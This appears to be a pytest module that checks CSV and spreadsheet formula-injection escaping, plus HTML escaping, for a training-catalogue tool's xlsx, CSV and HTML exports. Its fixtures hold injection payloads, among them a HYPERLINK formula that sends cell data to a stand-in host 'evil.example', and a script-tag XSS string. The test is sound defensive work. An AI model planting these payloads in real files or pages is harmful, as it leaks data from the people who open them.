"""Issue 17, finding 3: a hostile text (a training title, an organisation, a typed job title) never
becomes a formula in a file a person opens.

The hostile catalogue is the demo one with every title and organisation replaced by a formula-like
text; it goes in through the real paths (``passerelles trainings validate``, ``POST
/trainings:ingest`` with an admin key, ``passerelles kit --catalogue``, ``passerelles normalise``)
and the files are read back: the xlsx with openpyxl (no formula cell; the text kept as a string),
every CSV of the zip and of the other exports with the csv module (each hostile cell starts with
``'``, the OWASP rule of ``api/storage/exports.py``), the html kit as text (no live markup).
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from fastapi.testclient import TestClient

from api.cli import main
from api.http.app import create_app
from api.services.kits.build import build_kit
from api.services.kits.export import render
from api.services.training_service import TrainingService
from api.settings import Settings
from api.storage import exports
from referentiels.trainings import DEMO_CATALOGUE

FOOD, METAL = "Industrie - Alimentaire", "Industrie - Métallurgie"
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")', "=1+1", "+1", "-2+3", "@SUM(1)",
           "\tx", "\rx", "<script>alert(1)</script>"]
STORED = {h.strip() for h in HOSTILE}
"""The hostile texts as validation keeps them (a catalogue's cells are stripped: "\tx" is stored "x")."""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


# ---- fixtures: the hostile catalogue, and an app on a fresh store -----------------------------
def hostile_rows() -> list[dict[str, str]]:
    """The demo catalogue, every title and organisation (and funder) a hostile text."""
    rows = list(csv.DictReader(io.StringIO(Path(DEMO_CATALOGUE).read_text(encoding="utf-8"))))
    for i, row in enumerate(rows):
        row["title"] = HOSTILE[i % len(HOSTILE)]
        row["organisation"] = HOSTILE[(i + 3) % len(HOSTILE)]
        row["funder"] = HOSTILE[(i + 5) % len(HOSTILE)]
    return rows


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory) -> Path:
    rows = hostile_rows()
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path_factory.mktemp("catalogue") / "hostile.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def served(tmp_path_factory, hostile_csv):
    """An app whose catalogue is the hostile one, ingested by an admin over HTTP (mode=replace)."""
    app = create_app(Settings(referentiel="demo", database=tmp_path_factory.mktemp("db") / "p.sqlite3"))
    admin = app.state.security.keys.create("admin")[0]
    with TestClient(app) as client:
        r = client.post("/trainings:ingest", params={"mode": "replace"}, content=hostile_csv.read_bytes(),
                        headers={"content-type": "text/csv", "Authorization": f"Bearer {admin}"})
        assert r.status_code == 200, r.text
        yield client
    app.state.passerelles.pool.store.close()


@pytest.fixture(scope="module")
def ingested_kit(served):
    """The food -> metal kit whose plans come from the ingested catalogue (as ``kit_inputs`` plans)."""
    state = served.app.state.passerelles
    service = TrainingService.of(state)
    return build_kit(state.referentiel, state.passerelles, FOOD, METAL, catalogue_name="ingested",
                     plan_for=lambda a, b: service.occupation_gap(a, b)["plan"])


@pytest.fixture(scope="module")
def cli_kits(tmp_path_factory, hostile_csv) -> dict[str, Path]:
    """``passerelles trainings validate`` accepts the catalogue; ``passerelles kit --catalogue`` writes it."""
    folder = tmp_path_factory.mktemp("kits")
    assert main(["trainings", "validate", str(hostile_csv)]) == 0
    paths = {"xlsx": folder / "kit.xlsx", "csv": folder / "kit.zip"}
    for fmt, path in paths.items():
        assert main(["kit", "--from-sector", FOOD, "--to-sector", METAL, "--format", fmt, "--catalogue",
                     str(hostile_csv), "--out", str(path)]) == 0
    return paths


# ---- readers -------------------------------------------------------------------------------------
def xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_xlsx_holds_text_only(data: bytes) -> set[str]:
    """No formula cell anywhere; every hostile text is a string cell with the text as given. Returns them."""
    cells = xlsx_cells(data)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas[:5]}"
    hostile = {c.value for c in cells if isinstance(c.value, str) and c.value in STORED}
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS))
    return hostile


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_csv_escaped(text: str, name: str) -> set[str]:
    """No cell starts with = + - @ tab CR unless it is a number; returns the escaped hostile cells."""
    rows = csv_cells(text)
    live = [(name, i, cell) for i, row in enumerate(rows) for cell in row
            if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]
    assert live == [], f"cells a spreadsheet would read as formulas: {live[:5]}"
    return {cell for row in rows for cell in row if cell.startswith("'")}


def plan_texts(frame: pl.DataFrame) -> set[str]:
    return set(frame["title"].to_list()) | set(frame["organisation"].to_list())


# ---- kits ------------------------------------------------------------------------------------------
def test_a_hostile_catalogue_is_accepted_as_data(served):
    """Formula-like titles are legitimate text: validation keeps them, the JSON answer gives them raw."""
    titles = {t["title"] for t in served.get("/trainings", params={"limit": 1000}).json()["trainings"]}
    assert {"=1+1", "+1", "-2+3", "@SUM(1)", HOSTILE[0]} <= titles


def test_ingested_kit_xlsx_has_no_formula(ingested_kit):
    assert ingested_kit.plans.height, "the hostile trainings are in the kit's plans"
    seen = assert_xlsx_holds_text_only(render(ingested_kit, "xlsx"))
    assert plan_texts(ingested_kit.plans) <= seen
    assert {"=1+1", HOSTILE[0]} & seen


def test_ingested_kit_csv_zip_escapes_every_hostile_cell(ingested_kit):
    archive = zipfile.ZipFile(io.BytesIO(render(ingested_kit, "csv")))
    plans = csv_cells(archive.read("plans.csv").decode("utf-8"))
    header = plans[0]
    for row in plans[1:]:
        for column in ("title", "organisation"):
            cell = row[header.index(column)]
            assert cell in {exports.escape_csv_text(t) for t in STORED}, (column, cell)
            assert not cell.startswith(TRIGGERS), (column, cell)
    for name in archive.namelist():
        if name.endswith(".csv"):
            escaped = assert_csv_escaped(archive.read(name).decode("utf-8"), name)
            if name == "plans.csv":
                assert {"'" + t for t in plan_texts(ingested_kit.plans) if t.startswith(TRIGGERS)} <= escaped


def test_ingested_kit_html_escapes_markup(ingested_kit):
    page = render(ingested_kit, "html").decode("utf-8")
    assert "<script>alert(1)</script>" in plan_texts(ingested_kit.plans)
    assert "<script" not in page.lower()
    assert html.escape("<script>alert(1)</script>") in page


def test_ingested_kit_json_stays_raw_data(ingested_kit):
    plans = json.loads(render(ingested_kit, "json"))["plans"]
    assert {p["title"] for p in plans} == set(ingested_kit.plans["title"].to_list())
    assert any(p["title"].startswith("=") or p["organisation"].startswith("=") for p in plans)


def test_cli_kit_xlsx_from_a_validated_hostile_catalogue_has_no_formula(cli_kits):
    seen = assert_xlsx_holds_text_only(cli_kits["xlsx"].read_bytes())
    assert {"=1+1", HOSTILE[0]} & seen


def test_cli_kit_csv_zip_from_a_validated_hostile_catalogue_is_escaped(cli_kits):
    archive = zipfile.ZipFile(cli_kits["csv"])
    escaped = set()
    for name in archive.namelist():
        if name.endswith(".csv"):
            escaped |= assert_csv_escaped(archive.read(name).decode("utf-8"), name)
    assert {"'=1+1", "'" + HOSTILE[0]} & escaped


# ---- the other exports ----------------------------------------------------------------------------
def test_catalogue_csv_export_escapes_titles_organisations_and_funders(tmp_path, served):
    """The catalogue CSV writer (``trainings synth``) on the served, hostile catalogue."""
    from api.cli.trainings import write_catalogue_csv

    frame = TrainingService.of(served.app.state.passerelles).catalogue.frame
    out = write_catalogue_csv(frame, tmp_path / "catalogue.csv")
    rows = csv_cells(out.read_text(encoding="utf-8"))
    header = rows[0]
    for row in rows[1:]:
        for column in ("title", "organisation", "funder"):
            cell = row[header.index(column)]
            assert not cell.startswith(TRIGGERS), (column, cell)
    escaped = assert_csv_escaped(out.read_text(encoding="utf-8"), "catalogue.csv")
    assert {"'=1+1", "'+1", "'-2+3", "'@SUM(1)", "'" + HOSTILE[0]} <= escaped


def test_synthetic_catalogue_still_validates(tmp_path, capsys):
    """Escaping changes nothing for honest data: the written catalogue reads back as valid."""
    out = tmp_path / "synth.csv"
    assert main(["trainings", "synth", "40", "--out", str(out), "--seed", "3"]) == 0
    assert main(["trainings", "validate", str(out)]) == 0
    assert "40 trainings" in capsys.readouterr().out


def test_normalise_csv_escapes_the_texts_as_given_and_the_column_name(tmp_path):
    texts = ["=1+1 cariste", "+1 soudeur", "-2+3 cariste", "@SUM(1) soudeur", "\tcariste", "soudeur\r",
             '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici") cariste', "-1"]
    source = tmp_path / "titles.csv"
    pl.DataFrame({"=poste": texts}).write_csv(source)
    out = tmp_path / "out.csv"
    assert main(["normalise", "titles", str(source), "--column", "=poste", "--referentiel", "demo",
                 "--k", "2", "--out", str(out)]) == 0
    parquet = tmp_path / "out.parquet"
    assert main(["normalise", "titles", str(source), "--column", "=poste", "--out", str(parquet)]) == 0
    given = pl.read_parquet(parquet)["=poste"].to_list()
    assert given[:4] == texts[:4], "Parquet stays raw data"
    text = out.read_text(encoding="utf-8")
    assert_csv_escaped(text, "out.csv")
    rows = csv_cells(text)
    assert rows[0][0] == "'=poste"
    first = [row[0] for row in rows[1:]]
    assert first == [exports.escape_csv_text(t) for t in given]
    assert first[:4] == ["'=1+1 cariste", "'+1 soudeur", "'-2+3 cariste", "'@SUM(1) soudeur"]
    assert first[-1] == "'-1", "a number typed as text is text"
    scores = [row[rows[0].index("score")] for row in rows[1:]]
    assert all(s == "" or float(s) >= 0 for s in scores), "scores stay numbers"
    assert re.search(r'^"\'=1\+1 cariste","[A-Z]\d{4}",".*?",\d', text, re.M), "text quoted, score bare"


# ---- the rule itself ------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE[:7] + ["-1", "=", "@"])
def test_the_rule_escapes_each_trigger(text):
    assert exports.escape_csv_text(text) == "'" + text
    frame = pl.DataFrame({"t": [text]})
    assert exports.csv_safe_frame(frame)["t"].to_list() == ["'" + text]


@pytest.mark.parametrize("text", ["Soudeur", "1+1", " =1", "'=1", "", "é=1"])
def test_the_rule_leaves_other_text_alone(text):
    assert exports.escape_csv_text(text) == text


def test_numbers_stay_numbers_and_separators_stay_inside_their_cell():
    frame = pl.DataFrame({"label": ["a;=1+1", "b,=2", "c\n=3", None], "score": [-0.5, 1.0, None, 2.0],
                          "n": [-2, 3, 4, 5], "ok": [True, False, None, True]})
    text = exports.write_csv(frame)
    rows = csv_cells(text)
    assert rows[1] == ["a;=1+1", "-0.5", "-2", "true"] and rows[3][0] == "c\n=3"
    assert '"a;=1+1",-0.5,-2,' in text, "text quoted (a French spreadsheet splits on ;), numbers bare"
    assert pl.read_csv(io.StringIO(text)).schema["score"] == pl.Float64
